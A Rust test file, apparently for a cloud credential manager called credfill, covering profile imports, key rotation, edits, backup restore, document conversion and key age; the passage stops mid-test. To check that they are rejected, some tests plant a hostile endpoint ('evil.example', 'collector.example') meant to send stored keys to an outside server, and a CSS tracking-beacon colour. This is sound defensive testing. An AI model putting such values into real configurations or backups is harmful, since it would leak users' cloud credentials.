//! The one profile model: every change is an operation on the document; documents of older builds
//! open; every document written reads back identically; an operation on one profile never touches
//! another; imports without twins; key rotation; backups that never replace or redirect; key ages.

use proptest::prelude::*;
use serde_json::{json, Value};

use credfill::profile::{
    key_age, Credential, Document, KeyAgeSince, Operation, Outcome, Profile, Provider,
    DEFAULT_MAX_KEY_AGE_DAYS, DOCUMENT_VERSION,
};

const DAY_MS: i64 = 86_400_000;
/// 2026-01-01T12:00:00Z.
const NOON: i64 = 1_767_268_800_000;
const AK: &str = "HPUAL2JOQF8TCAVKWXYZ";

fn item(value: Value) -> Credential {
    serde_json::from_value(value).unwrap()
}

fn huawei(ak: &str, sk: &str) -> Credential {
    item(
        json!({"kind": "aksk", "accessKeyId": ak, "secretAccessKey": sk, "userName": "alice", "issuer": "huawei"}),
    )
}

fn op(value: Value) -> Operation {
    serde_json::from_value(value).expect("an operation")
}

fn apply(document: &mut Document, operation: Value, now: i64) -> Outcome {
    document.apply(op(operation), now).expect("applies")
}

fn import(document: &mut Document, items: Vec<Credential>, choice: Value, now: i64) -> Outcome {
    let mut operation = json!({"op": "import", "items": items});
    operation
        .as_object_mut()
        .unwrap()
        .extend(choice.as_object().unwrap().clone());
    apply(document, operation, now)
}

#[test]
fn reimporting_an_ak_updates_its_profile_instead_of_making_a_twin() {
    let mut doc = Document::default();
    let first = import(
        &mut doc,
        vec![huawei(AK, &"a".repeat(40))],
        json!({"provider": "flexible-engine", "region": "eu-west-0"}),
        NOON,
    );
    let saved = &first.saved.unwrap()[0];
    assert_eq!(
        serde_json::to_value(saved).unwrap(),
        json!({"profileId": "p-1767268800000", "name": "Flexible Engine alice …WXYZ", "action": "created"})
    );
    let profile = &doc.profiles[0];
    assert_eq!(profile.provider, Provider::FlexibleEngine);
    assert_eq!(profile.region.as_deref(), Some("eu-west-0"));
    assert_eq!(profile.imported_at.as_deref(), Some("2026-01-01T12:00:00Z"));

    apply(
        &mut doc,
        json!({"op": "edit", "id": "p-1767268800000", "edits": {"name": "prod eu-west-0"}}),
        NOON,
    );
    let later = NOON + 30 * DAY_MS;
    let again = import(
        &mut doc,
        vec![huawei(AK, &"b".repeat(40))],
        json!({}),
        later,
    );
    assert_eq!(
        serde_json::to_value(&again.saved.unwrap()[0]).unwrap()["action"],
        "updated"
    );
    assert_eq!(doc.profiles.len(), 1, "no twin");
    let profile = &doc.profiles[0];
    assert_eq!(profile.name, "prod eu-west-0", "the user's edits stay");
    assert_eq!(profile.credentials, [huawei(AK, &"b".repeat(40))]);
    assert_eq!(
        profile.imported_at.as_deref(),
        Some("2026-01-01T12:00:00Z"),
        "age not reset"
    );
}

#[test]
fn one_key_may_get_another_profile_when_the_user_asks() {
    let mut doc = Document::default();
    let key = vec![huawei(AK, "s")];
    import(&mut doc, key.clone(), json!({"region": "cn-north-4"}), NOON);
    let outcome = import(
        &mut doc,
        key,
        json!({"newProfile": true, "region": "ap-southeast-3"}),
        NOON,
    );
    assert_eq!(
        serde_json::to_value(&outcome.saved.unwrap()[0]).unwrap()["action"],
        "created"
    );
    let regions: Vec<&str> = doc.profiles.iter().map(Profile::region).collect();
    assert_eq!(regions, ["cn-north-4", "ap-southeast-3"]);
}

#[test]
fn the_cloud_and_region_of_a_new_key_are_the_users_choice_and_checked() {
    let mut doc = Document::default();
    let key = vec![huawei(AK, "s")];
    for (choice, code) in [
        (json!({"provider": "ibm"}), "wrong-provider"),
        (
            json!({"provider": "flexible-engine", "region": "cn-north-4"}),
            "bad-region",
        ),
        (
            // Flexible Engine's, not one of Huawei Cloud's.
            json!({"provider": "huawei", "region": "eu-west-1"}),
            "bad-region",
        ),
    ] {
        let mut operation = json!({"op": "import", "items": key});
        operation
            .as_object_mut()
            .unwrap()
            .extend(choice.as_object().unwrap().clone());
        let error = doc.apply(op(operation), NOON).unwrap_err();
        assert_eq!(error.as_str(), code);
        assert!(doc.profiles.is_empty(), "a refused import stores nothing");
    }
    import(
        &mut doc,
        key,
        json!({"provider": "huawei", "region": "ap-southeast-3"}),
        NOON,
    );
    assert_eq!(
        (doc.profiles[0].provider, doc.profiles[0].region()),
        (Provider::Huawei, "ap-southeast-3")
    );
}

#[test]
fn one_ibm_profile_holds_what_the_openscale_forms_need() {
    let mut doc = Document::default();
    let api_key = item(
        json!({"kind": "ibm-api-key", "apiKey": "k".repeat(44), "name": "openscale-key",
        "createdAt": "2025-06-01T08:00+0000"}),
    );
    import(&mut doc, vec![api_key], json!({}), NOON);
    let id = doc.profiles[0].id.clone();
    let instance = item(
        json!({"kind": "ibm-instance", "guid": "0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0", "location": "eu-de"}),
    );
    let aws = item(
        json!({"kind": "aksk", "accessKeyId": "AKIAFAKE0000EXAMPLE1", "secretAccessKey": "s", "issuer": "aws"}),
    );
    let azure =
        item(json!({"kind": "azure-sp", "clientId": "c", "clientSecret": "s", "tenantId": "t"}));
    // What an OpenScale form asks for is preset into the one IBM profile: the instance anywhere,
    // an AWS key or an Azure principal on IBM's console (elsewhere they may be for their own cloud).
    let into = |credential: &Credential, cloud| {
        let preview =
            credfill::profile::preview_import(&doc, std::slice::from_ref(credential), None, cloud);
        serde_json::to_value(&preview[0]).unwrap()["into"]["id"]
            .as_str()
            .map(str::to_owned)
    };
    assert_eq!(into(&instance, None).as_deref(), Some(id.as_str()));
    for other in [&aws, &azure] {
        assert_eq!(
            into(other, Some(Provider::Ibm)).as_deref(),
            Some(id.as_str())
        );
        assert_eq!(into(other, None), None, "not on IBM's console");
    }
    let second_key = item(json!({"kind": "ibm-api-key", "apiKey": "m".repeat(44)}));
    assert_eq!(
        into(&second_key, Some(Provider::Ibm)),
        None,
        "another API key is another account"
    );
    for credential in [instance, aws, azure] {
        let outcome = import(&mut doc, vec![credential], json!({"target": id}), NOON + 1);
        assert_eq!(
            serde_json::to_value(&outcome.saved.unwrap()[0]).unwrap()["action"],
            "added"
        );
    }
    assert_eq!(doc.profiles.len(), 1);
    let profile = &doc.profiles[0];
    assert_eq!(profile.credentials.len(), 4);
    assert_eq!(
        profile.openscale_guid.as_deref(),
        Some("0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0")
    );
    assert_eq!(profile.region.as_deref(), Some("eu-de"));
    assert_eq!(
        profile.key_created_at.as_deref(),
        Some("2025-06-01T08:00+0000")
    );
    // A Huawei key never goes into it.
    let error = doc
        .apply(
            op(json!({"op": "import", "items": [huawei(AK, "s")], "target": id})),
            NOON,
        )
        .unwrap_err();
    assert_eq!(error.as_str(), "wrong-provider");
}

#[test]
fn the_openscale_instance_found_by_the_key_moves_the_profile_to_its_region() {
    let mut doc = Document::default();
    let api_key = item(json!({"kind": "ibm-api-key", "apiKey": "k".repeat(44)}));
    import(&mut doc, vec![api_key], json!({"region": "us-south"}), NOON);
    let id = doc.profiles[0].id.clone();
    let guid = "0F1E2D3C-4B5A-6978-8796-A5B4C3D2E1F0";
    let set = |region: Value| json!({"op": "setOpenscaleInstance", "id": id, "guid": guid, "region": region});
    apply(&mut doc, set(json!("eu-de")), NOON);
    let profile = &doc.profiles[0];
    assert_eq!(
        profile.openscale_guid.as_deref(),
        Some(guid.to_ascii_lowercase().as_str())
    );
    assert_eq!(profile.data_mart_id, profile.openscale_guid);
    assert_eq!(profile.region.as_deref(), Some("eu-de"));
    // Switching later: another instance, the region stays when none is given.
    let other = "11111111-2222-4333-8444-555555555555";
    apply(
        &mut doc,
        json!({"op": "setOpenscaleInstance", "id": id, "guid": other}),
        NOON,
    );
    assert_eq!(doc.profiles[0].openscale_guid.as_deref(), Some(other));
    assert_eq!(doc.profiles[0].region.as_deref(), Some("eu-de"));
    let error = doc.apply(op(set(json!("mars-1"))), NOON).unwrap_err();
    assert_eq!(error.as_str(), "bad-region");
    assert_eq!(doc.profiles[0].openscale_guid.as_deref(), Some(other));
}

#[test]
fn a_new_key_replaces_the_old_one_which_stays_until_the_new_one_passes() {
    let mut doc = Document::default();
    import(
        &mut doc,
        vec![huawei(AK, "old")],
        json!({"provider": "flexible-engine"}),
        NOON,
    );
    let id = doc.profiles[0].id.clone();
    let new_key = huawei("HPUANEWNEWNEWNEWNEW1", "new");
    let preview = |cloud| {
        serde_json::to_value(credfill::profile::preview_import(
            &doc,
            std::slice::from_ref(&new_key),
            None,
            cloud,
        ))
        .unwrap()
    };
    let for_orange = preview(Some(Provider::FlexibleEngine));
    assert_eq!(for_orange[0]["replacesIn"]["id"], id.as_str());
    assert_eq!(for_orange[0]["asksCloud"], true);
    // Alice of Huawei Cloud is not alice of Flexible Engine: no rotation across clouds (and a
    // Huawei-format key is Huawei Cloud's unless the user or the console tab says otherwise).
    for cloud in [Some(Provider::Huawei), None, Some(Provider::Ibm)] {
        assert!(preview(cloud)[0].get("replacesIn").is_none(), "{cloud:?}");
    }

    let later = NOON + 100 * DAY_MS;
    let outcome = import(
        &mut doc,
        vec![new_key.clone()],
        json!({"target": id, "replace": true}),
        later,
    );
    assert_eq!(
        serde_json::to_value(&outcome.saved.unwrap()[0]).unwrap()["action"],
        "replaced"
    );
    let profile = &doc.profiles[0];
    assert_eq!(profile.credentials, [new_key]);
    assert_eq!(profile.retired, [huawei(AK, "old")]);
    let age = key_age(profile, later, DEFAULT_MAX_KEY_AGE_DAYS);
    assert_eq!(age.age_days, Some(0), "the age runs from the new key");

    let line = |severity: &str| {
        json!({"step": "obs.list-buckets", "status": if severity == "ok" { "ok" } else { "bad-sk" },
            "severity": severity, "code": "bad-sk", "params": {}, "details": {}})
    };
    apply(
        &mut doc,
        json!({"op": "recordCheck", "id": id, "results": [line("error")]}),
        later,
    );
    assert_eq!(doc.profiles[0].retired.len(), 1, "a failed check keeps it");
    apply(
        &mut doc,
        json!({"op": "recordCheck", "id": id, "results": [line("ok"),
            {"step": "iam.projects", "status": "ok", "severity": "ok", "code": "project-found", "params": {"region": "cn-north-4"}, "details": {"projectId": "abc"}}]}),
        later,
    );
    let profile = &doc.profiles[0];
    assert!(profile.retired.is_empty(), "a passed check drops it");
    assert_eq!(profile.project_id.as_deref(), Some("abc"));
    assert!(profile.last_check.as_ref().unwrap().passed);

    let error = doc
        .apply(
            op(
                json!({"op": "import", "items": [huawei("HPUABOBBOBBOBBOBBOB1", "x")], "target": id, "replace": true}),
            ),
            later,
        )
        .unwrap();
    assert_eq!(
        serde_json::to_value(&error.saved.unwrap()[0]).unwrap()["action"],
        "replaced",
        "same user alice: rotates"
    );
}

#[test]
fn a_rotation_moves_a_default_name_to_the_new_key_and_leaves_a_typed_one() {
    let mut doc = Document::default();
    let name = "Clé Flexible Engine de alice …WXYZ";
    for (n, provider) in ["flexible-engine", "huawei"].into_iter().enumerate() {
        import(
            &mut doc,
            vec![huawei(AK, "old")],
            json!({"provider": provider, "names": [name], "newProfile": true}),
            NOON + n as i64,
        );
    }
    let (rotated, typed) = (doc.profiles[0].id.clone(), doc.profiles[1].id.clone());
    apply(
        &mut doc,
        json!({"op": "edit", "id": typed, "edits": {"name": "Orange prod …WXYZ"}}),
        NOON,
    );
    for (id, new_ak) in [
        (&rotated, "HPUANEWNEWNEWNEWNEW1"),
        (&typed, "HPUANEWNEWNEWNEWNEW2"),
    ] {
        import(
            &mut doc,
            vec![huawei(new_ak, "new")],
            json!({"target": id, "replace": true}),
            NOON + DAY_MS,
        );
    }
    let names: Vec<&str> = doc.profiles.iter().map(|p| p.name.as_str()).collect();
    assert_eq!(
        names,
        ["Clé Flexible Engine de alice …NEW1", "Orange prod …WXYZ"],
        "the name credfill made follows the key; the one the user typed is never changed"
    );
    assert_eq!(Document::from_json(&doc.to_json()).unwrap(), doc);
}

#[test]
fn edits_are_checked_and_a_refused_one_changes_nothing() {
    let mut doc = Document::default();
    import(
        &mut doc,
        vec![huawei(AK, "s")],
        json!({"provider": "huawei", "region": "cn-north-4"}),
        NOON,
    );
    let id = doc.profiles[0].id.clone();
    let before = doc.clone();
    for (edits, code) in [
        (json!({"name": "  "}), "bad-name"),
        (json!({"colour": "url(https://x)"}), "bad-colour"),
        (json!({"provider": "ibm"}), "wrong-provider"),
        (json!({"region": "mars-1"}), "bad-region"),
        (json!({"endpoint": "http://evil.example"}), "bad-endpoint"),
        (
            json!({"endpoint": {"modelarts": "http://evil.example"}}),
            "bad-endpoint",
        ),
        (
            json!({"endpoint": {"s3": "https://s3.example"}}),
            "bad-endpoint",
        ),
        (json!({"secretAccessKey": "x"}), "bad-operation"),
    ] {
        let result =
            serde_json::from_value::<Operation>(json!({"op": "edit", "id": id, "edits": edits}))
                .map_err(|_| "bad-operation")
                .and_then(|o| doc.apply(o, NOON).map_err(|e| e.as_str()));
        assert_eq!(result.unwrap_err(), code);
        assert_eq!(doc, before);
    }
    apply(
        &mut doc,
        json!({"op": "edit", "id": id, "edits": {"endpoint": "https://obs.private.example", "region": "private-1",
            "colour": "#A0B1C2", "note": " n "}}),
        NOON,
    );
    let profile = &doc.profiles[0];
    assert_eq!(
        profile.region(),
        "private-1",
        "a custom endpoint allows any region"
    );
    assert_eq!(serde_json::to_value(profile).unwrap()["colour"], "#a0b1c2");
    assert_eq!(profile.note, "n");
}

/// The editor's one field per service: ModelArts elsewhere, OBS and IAM still the catalog's.
#[test]
fn an_edit_replaces_one_service_and_the_catalog_keeps_the_others() {
    let mut doc = Document::default();
    import(
        &mut doc,
        vec![huawei(AK, "s")],
        json!({"provider": "flexible-engine", "region": "eu-west-0"}),
        NOON,
    );
    let id = doc.profiles[0].id.clone();
    let edit = |doc: &mut Document, endpoint: Value| {
        apply(
            doc,
            json!({"op": "edit", "id": id, "edits": {"endpoint": endpoint}}),
            NOON,
        )
    };
    edit(
        &mut doc,
        json!({"modelarts": "https://modelarts.example:8443/"}),
    );
    assert_eq!(
        serde_json::to_value(&doc.profiles[0]).unwrap()["endpoint"],
        json!({"modelarts": "https://modelarts.example:8443"})
    );
    let hosts = credfill::cloud::catalog::endpoints(&doc.profiles[0]);
    assert_eq!(
        hosts.modelarts.unwrap().base(),
        "https://modelarts.example:8443"
    );
    assert_eq!(
        hosts.obs.unwrap().base(),
        "https://oss.eu-west-0.prod-cloud-ocb.orange-business.com"
    );
    edit(&mut doc, json!(""));
    assert!(doc.profiles[0].endpoint.is_none(), "emptied: the catalog's");
}

#[test]
fn delete_undo_and_reorder() {
    let mut doc = Document::default();
    for (n, ak) in [
        "HPUAAAAAAAAAAAAAAAA1",
        "HPUABBBBBBBBBBBBBBB2",
        "HPUACCCCCCCCCCCCCCC3",
    ]
    .iter()
    .enumerate()
    {
        import(&mut doc, vec![huawei(ak, "s")], json!({}), NOON + n as i64);
    }
    let ids: Vec<String> = doc.profiles.iter().map(|p| p.id.clone()).collect();
    apply(&mut doc, json!({"op": "delete", "id": ids[1]}), NOON);
    assert_eq!(doc.profiles.len(), 2);
    apply(&mut doc, json!({"op": "undoDelete"}), NOON + 1000);
    assert_eq!(doc.profiles[1].id, ids[1], "back where it was");
    apply(&mut doc, json!({"op": "delete", "id": ids[0]}), NOON);
    let late = NOON + 6 * 60 * 1000;
    assert_eq!(
        doc.apply(op(json!({"op": "undoDelete"})), late)
            .unwrap_err()
            .as_str(),
        "nothing-to-undo"
    );
    apply(
        &mut doc,
        json!({"op": "reorder", "ids": [ids[2], ids[1]]}),
        late,
    );
    assert!(
        doc.deleted.is_none(),
        "the deleted secret is gone after its undo time"
    );
    assert_eq!(doc.profiles[0].id, ids[2]);
    for bad in [
        json!([ids[2]]),
        json!([ids[2], ids[2]]),
        json!([ids[2], "x"]),
    ] {
        let error = doc
            .apply(op(json!({"op": "reorder", "ids": bad})), late)
            .unwrap_err();
        assert_eq!(error.as_str(), "bad-order");
    }
}

fn backup_of(profiles: &[Profile]) -> Value {
    let backup = Document {
        profiles: profiles.to_vec(),
        ..Document::default()
    };
    serde_json::to_value(backup).unwrap()
}

#[test]
fn restoring_a_backup_adds_skips_and_reports_conflicts_but_never_replaces_or_redirects() {
    let mut doc = Document::default();
    import(&mut doc, vec![huawei(AK, "s")], json!({}), NOON);
    import(
        &mut doc,
        vec![huawei("HPUABBBBBBBBBBBBBBBB", "s")],
        json!({}),
        NOON,
    );
    let existing = doc.profiles.clone();
    let renamed = Profile {
        name: "renamed in the backup".into(),
        ..existing[0].clone()
    };
    let mut unrelated_same_id = existing[1].clone();
    unrelated_same_id.credentials = vec![huawei("HPUACCCCCCCCCCCCCCCC", "s")];
    let mut brand_new = existing[1].clone();
    brand_new.id = "c".into();
    brand_new.credentials = vec![huawei("HPUADDDDDDDDDDDDDDDD", "s")];
    let mut backup = backup_of(&[
        existing[1].clone(),
        renamed.clone(),
        unrelated_same_id,
        brand_new,
    ]);
    // Whoever made the file wants the keys sent to their server, and a CSS beacon.
    backup["profiles"][3]["endpoint"] = json!("https://collector.example");
    backup["profiles"][3]["colour"] = json!("url(https://tracker.example/p.png)");
    backup["profiles"][3]["extra"] = json!("unknown fields do not survive");

    let error = doc
        .apply(op(json!({"op": "restore", "backup": backup})), NOON)
        .unwrap_err();
    assert_eq!(
        error.as_str(),
        "bad-document",
        "a hostile colour refuses the file"
    );
    backup["profiles"][3]
        .as_object_mut()
        .unwrap()
        .remove("colour");
    let outcome = apply(&mut doc, json!({"op": "restore", "backup": backup}), NOON);
    let restored = serde_json::to_value(outcome.restored.unwrap()).unwrap();
    assert_eq!(
        restored,
        json!({"added": ["p-1767268800000-2-2", "c"], "unchanged": ["p-1767268800000-2"],
            "conflicts": 1, "endpointsDropped": 1})
    );
    assert_eq!(
        doc.profiles[..2],
        existing[..],
        "existing profiles untouched"
    );
    assert_eq!(doc.profiles.len(), 4);
    assert!(doc.profiles[3].endpoint.is_none());
    assert!(!doc.to_json().contains("unknown fields"));
    let conflict = &doc.conflicts[0];
    assert_eq!(
        (conflict.existing_id.as_str(), &conflict.fields[..]),
        (existing[0].id.as_str(), &["name".to_owned()][..])
    );

    apply(
        &mut doc,
        json!({"op": "resolveConflict", "index": 0, "choice": "theirs"}),
        NOON,
    );
    assert_eq!(doc.profiles[0].name, "renamed in the backup");
    assert_eq!(doc.profiles[0].id, existing[0].id);
    assert!(doc.conflicts.is_empty());
}

#[test]
fn documents_of_the_first_build_open_converted() {
    let text = include_str!("fixtures/documents/v1-checked-profiles.json");
    let doc = Document::from_json(text).expect("a 0.1 document opens");
    assert_eq!(doc.version, DOCUMENT_VERSION);
    let [huawei, ibm, seeded] = &doc.profiles[..] else {
        panic!("three profiles")
    };
    let check = huawei.last_check.as_ref().unwrap();
    assert!(check.passed);
    assert_eq!(check.results.len(), 2);
    assert_eq!(
        serde_json::to_value(&huawei.credentials[0]).unwrap()["issuer"],
        "huawei"
    );
    // `{ok, summary, at}`: the shape the 0.1 core wanted and the check never wrote.
    let check = ibm.last_check.as_ref().unwrap();
    assert_eq!((check.passed, check.results.len()), (false, 0));
    assert_eq!(
        serde_json::to_value(&ibm.credentials[2]).unwrap()["issuer"],
        "aws",
        "AKIA keys without a stated provider are AWS's"
    );
    // The hostile parts of a seeded profile are dropped, the rest is kept.
    assert!(
        seeded.endpoint.is_none(),
        "one origin is not loopback: not believed"
    );
    assert!(seeded.colour.is_none());
    assert_eq!(
        seeded.last_check.as_ref().unwrap().bucket.as_deref(),
        Some("photos")
    );
    assert!(!seeded.last_check.as_ref().unwrap().passed);
    let deleted = doc.deleted.as_ref().unwrap();
    assert_eq!(deleted.profile.id, "p-old");
    // And the converted document works with every operation, e.g. a new import.
    let mut doc = doc;
    import(
        &mut doc,
        vec![huawei_key("HPUANEWNEWNEWNEWNEW1")],
        json!({}),
        NOON,
    );
    assert_eq!(doc.profiles.len(), 4);
    assert_eq!(Document::from_json(&doc.to_json()).unwrap(), doc);
}

fn huawei_key(ak: &str) -> Credential {
    huawei(ak, "fakeSecretAccessKey0000000000000Example1")
}

#[test]
fn unreadable_and_newer_documents_are_refused() {
    assert_eq!(
        Document::from_json("{").unwrap_err().as_str(),
        "bad-document"
    );
    assert_eq!(
        Document::from_json(r#"{"version": 3, "profiles": []}"#)
            .unwrap_err()
            .as_str(),
        "newer-document"
    );
    assert_eq!(
        Document::from_json(r#"{"profiles": [{"id": "x"}]}"#)
            .unwrap_err()
            .as_str(),
        "bad-document"
    );
}

#[test]
fn key_age_counts_from_creation_else_import_and_flags_past_the_limit() {
    let mut doc = Document::default();
    import(&mut doc, vec![huawei(AK, "s")], json!({}), NOON);
    let mut p = doc.profiles[0].clone();
    let age = |p: &Profile, days: i64| key_age(p, NOON + days * DAY_MS, DEFAULT_MAX_KEY_AGE_DAYS);
    let fresh = age(&p, 90);
    assert_eq!(
        (fresh.age_days, fresh.since, fresh.stale),
        (Some(90), Some(KeyAgeSince::Imported), false)
    );
    let old = age(&p, 91);
    assert!(old.stale && !old.temporary && !old.expired);
    assert_eq!(old.rotation_steps.len(), 5);
    p.key_created_at = Some("2025-10-01T12:00:00Z".into()); // 92 days before NOON
    let by_creation = age(&p, 0);
    assert_eq!(
        (by_creation.age_days, by_creation.since),
        (Some(92), Some(KeyAgeSince::Created))
    );
    assert!(!key_age(&p, NOON, 365).stale, "the limit is configurable");
}

#[test]
fn the_creation_date_a_flow_read_is_recorded_for_the_key_in_use_only() {
    let mut doc = Document::default();
    import(&mut doc, vec![huawei(AK, "s")], json!({}), NOON);
    let id = doc.profiles[0].id.clone();
    // IAM's record of the key (*Querying a Permanent Access Key*): 92 days before NOON.
    let created = |access_key: &str, at: &str| json!({"op": "keyCreated", "id": id, "accessKey": access_key, "createdAt": at});
    apply(
        &mut doc,
        created("HPUAOTHERKEY00000000", "2025-10-01T12:00:00.000000Z"),
        NOON,
    );
    assert_eq!(
        doc.profiles[0].key_created_at, None,
        "another key's date is not this key's"
    );
    apply(&mut doc, created(AK, "2025-10-01T12:00:00.000000Z"), NOON);
    let age = key_age(&doc.profiles[0], NOON, DEFAULT_MAX_KEY_AGE_DAYS);
    assert_eq!(
        (age.age_days, age.since, age.stale),
        (Some(92), Some(KeyAgeSince::Created), true)
    );
    let before = doc.clone();
    assert!(doc.apply(op(created(AK, "last autumn")), NOON).is_err());
    assert_eq!(doc, before, "an unreadable date changes nothing");
}

#[test]
fn temporary_credentials_expire_and_are_never_merely_stale() {
    let token = item(
        json!({"kind": "aksk", "accessKeyId": "TEMPAKTEMPAKTEMPAK01", "secretAccessKey": "s",
        "securityToken": "t", "expiresAt": "2026-01-01T13:00:00.000000Z", "issuer": "huawei"}),
    );
    let mut doc = Document::default();
    import(&mut doc, vec![token], json!({}), NOON);
    let p = &doc.profiles[0];
    let before = key_age(p, NOON + 59 * 60_000, DEFAULT_MAX_KEY_AGE_DAYS);
    assert!(before.temporary && !before.expired && !before.stale);
    let after = key_age(p, NOON + 60 * 60_000, DEFAULT_MAX_KEY_AGE_DAYS);
    assert!(after.expired);
    assert!(!key_age(p, NOON + 400 * DAY_MS, 90).stale);
}

#[test]
fn the_view_for_pages_holds_no_secret() {
    let mut doc = Document::default();
    import(
        &mut doc,
        vec![huawei(AK, "MFyfvK41ba2giqM7Uio6PznpdUKGpownRZlmVmHc")],
        json!({}),
        NOON,
    );
    let view =
        serde_json::to_string(&credfill::profile::document_view(&doc, NOON, 90, None)).unwrap();
    assert!(view.contains(AK) && view.contains("keyAge"));
    assert!(!view.contains("MFyfvK41"));
    assert!(!format!("{doc:?}").contains("MFyfvK41"));
}

// Random documents and operations: whatever the core writes reads back identically, and an
// operation on one profile keeps every field of every other profile.

fn arb_credential() -> impl Strategy<Value = Credential> {
    let ak = "[A-Z0-9]{20}";
    prop_oneof![
        (ak, "[a-zA-Z0-9]{40}", proptest::option::of("[a-z]{1,8}")).prop_map(|(ak, sk, user)| item(
            json!({"kind": "aksk", "accessKeyId": ak, "secretAccessKey": sk, "userName": user, "issuer": "huawei"})
        )),
        "[a-zA-Z0-9_-]{44}".prop_map(|k| item(json!({"kind": "ibm-api-key", "apiKey": k}))),
        "[0-9a-f]{8}".prop_map(|g| item(json!({"kind": "ibm-instance",
            "guid": format!("{g}-0000-4000-8000-000000000001")}))),
    ]
}

/// An operation with its profile chosen at run time (index into the profiles then stored).
fn arb_operation() -> impl Strategy<Value = (u8, usize, Vec<Credential>, bool, String)> {
    (
        0u8..7,
        any::<usize>(),
        proptest::collection::vec(arb_credential(), 1..3),
        any::<bool>(),
        "[a-z ]{0,12}",
    )
}

fn operation_for(doc: &Document, spec: &(u8, usize, Vec<Credential>, bool, String)) -> Value {
    let (kind, index, items, flag, text) = spec;
    let id = match doc.profiles.len() {
        0 => "none".to_owned(),
        n => doc.profiles[index % n].id.clone(),
    };
    let guid = format!("{:08x}-1111-4111-8111-111111111111", index % 0xffff_ffff);
    match kind {
        0 => {
            json!({"op": "import", "items": items, "target": flag.then_some(&id), "replace": *flag && index % 2 == 0})
        }
        1 => {
            json!({"op": "edit", "id": id, "edits": {"name": text, "colour": if *flag { "#0a6cbd" } else { "" }, "note": text}})
        }
        2 => json!({"op": "delete", "id": id}),
        3 => json!({"op": "undoDelete"}),
        4 => json!({"op": "recordCheck", "id": id, "results": [
            {"step": "ibm.token", "status": if *flag { "ok" } else { "bad-api-key" },
             "severity": if *flag { "ok" } else { "error" }, "code": "network", "details": {}}]}),
        5 => json!({"op": "setOpenscaleInstance", "id": id, "guid": guid}),
        _ => {
            json!({"op": "reorder", "ids": doc.profiles.iter().rev().map(|p| &p.id).collect::<Vec<_>>()})
        }
    }
}

/// The profile an operation names, if it names one (every other one must stay as it was).
fn named(operation: &Value) -> Option<&str> {
    operation
        .get("id")
        .or_else(|| operation.get("target"))
        .and_then(Value::as_str)
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(200))]
    #[test]
    fn documents_read_back_and_operations_keep_other_profiles(
        seed_items in proptest::collection::vec(arb_credential(), 1..4),
        specs in proptest::collection::vec(arb_operation(), 1..12),
    ) {
        let mut doc = Document::default();
        let _ = doc.apply(op(json!({"op": "import", "items": seed_items})), NOON);
        for (n, spec) in specs.iter().enumerate() {
            let operation = operation_for(&doc, spec);
            let before = doc.clone();
            let parsed = serde_json::from_value::<Operation>(operation.clone()).expect("well-formed");
            match doc.apply(parsed, NOON + n as i64 * 1000) {
                Err(_) => prop_assert_eq!(&doc, &before, "a refused operation changes nothing"),
                Ok(_) => {
                    let op_name = operation["op"].as_str().unwrap();
                    if let (Some(id), true) = (named(&operation), matches!(op_name, "edit" | "recordCheck" | "setOpenscaleInstance" | "import")) {
                        for old in before.profiles.iter().filter(|p| p.id != id) {
                            let kept = doc.profiles.iter().find(|p| p.id == old.id);
                            // An import refreshes the profile holding the same key (no twins): that one may change.
                            let same_key = op_name == "import" && old.credentials.iter().any(|c| {
                                operation["items"].as_array().unwrap().iter().any(|i| {
                                    c.same_key(&serde_json::from_value(i.clone()).unwrap())
                                })
                            });
                            if !same_key {
                                prop_assert_eq!(kept, Some(old));
                            }
                        }
                    }
                }
            }
            prop_assert_eq!(&Document::from_json(&doc.to_json()).unwrap(), &doc);
        }
    }
}

/// A document credfill 0.1 (commit 0c5c6f9) really stored, not a hand-made one: its extension, in
/// Chromium, imported credentials.csv and apiKey.json from the popup, checked two keys against the
/// local stand-ins (moto, Huawei IAM), edited and deleted profiles; the vault was then exported and
/// decrypted with 0.1's own core. The keys are the stand-ins' and the e2e tests' made-up ones.
#[test]
fn a_document_stored_by_the_first_build_opens_and_works() {
    let text = include_str!("fixtures/documents/v1-stored-by-0.1.json");
    let raw: Value = serde_json::from_str(text).unwrap();
    assert!(raw.get("version").is_none(), "a version 1 document");
    let doc = Document::from_json(text).expect("the document 0.1 stored opens");
    assert_eq!(doc.version, DOCUMENT_VERSION);

    // Every profile, the deleted one too, keeps its place, its credentials, keys and secrets.
    let keys = |credentials: &Value| -> Vec<Value> {
        credentials
            .as_array()
            .unwrap()
            .iter()
            .map(|c| {
                json!([
                    c["kind"],
                    c.get("accessKeyId"),
                    c.get("secretAccessKey"),
                    c.get("apiKey")
                ])
            })
            .collect()
    };
    let raw_profiles = raw["profiles"].as_array().unwrap();
    assert_eq!(doc.profiles.len(), raw_profiles.len());
    let deleted = doc
        .deleted
        .as_ref()
        .expect("the deletion is kept, for undo");
    assert_eq!(
        (deleted.index as u64, deleted.at),
        (
            raw["deleted"]["index"].as_u64().unwrap(),
            raw["deleted"]["at"].as_i64().unwrap()
        )
    );
    let mut checked = 0;
    for (raw, profile) in raw_profiles
        .iter()
        .chain([&raw["deleted"]["profile"]])
        .zip(doc.profiles.iter().chain([&deleted.profile]))
    {
        assert_eq!(profile.id, raw["id"].as_str().unwrap());
        let raw_credentials = &raw["credentials"];
        assert_eq!(
            profile.credentials.len(),
            raw_credentials.as_array().unwrap().len(),
            "{}",
            profile.id
        );
        let converted = serde_json::to_value(&profile.credentials).unwrap();
        assert_eq!(keys(&converted), keys(raw_credentials), "{}", profile.id);
        // An AK/SK that said nothing of its issuer is its profile's cloud's, whatever its shape
        // (the seeded Huawei profile holds the stand-in's AKIA-shaped key).
        if matches!(
            profile.provider,
            Provider::Huawei | Provider::FlexibleEngine
        ) {
            let issuers: Vec<&Value> = converted
                .as_array()
                .unwrap()
                .iter()
                .map(|c| &c["issuer"])
                .collect();
            assert!(
                issuers.iter().all(|i| *i == "huawei"),
                "{} {issuers:?}",
                profile.id
            );
        }
        for field in ["note", "colour", "region", "projectId", "importedAt"] {
            if let Some(value) = raw.get(field) {
                assert_eq!(
                    serde_json::to_value(profile).unwrap()[field],
                    *value,
                    "{} {field}",
                    profile.id
                );
            }
        }
        if let Some(stored) = raw.get("lastCheck") {
            let check = profile.last_check.as_ref().expect("the check is kept");
            assert!(!check.results.is_empty(), "{}", profile.id);
            assert_eq!(
                check.results.len(),
                stored["results"].as_array().unwrap().len()
            );
            assert_eq!(check.at, stored["at"].as_str().unwrap());
            assert_eq!(check.bucket.as_deref(), stored["bucket"].as_str());
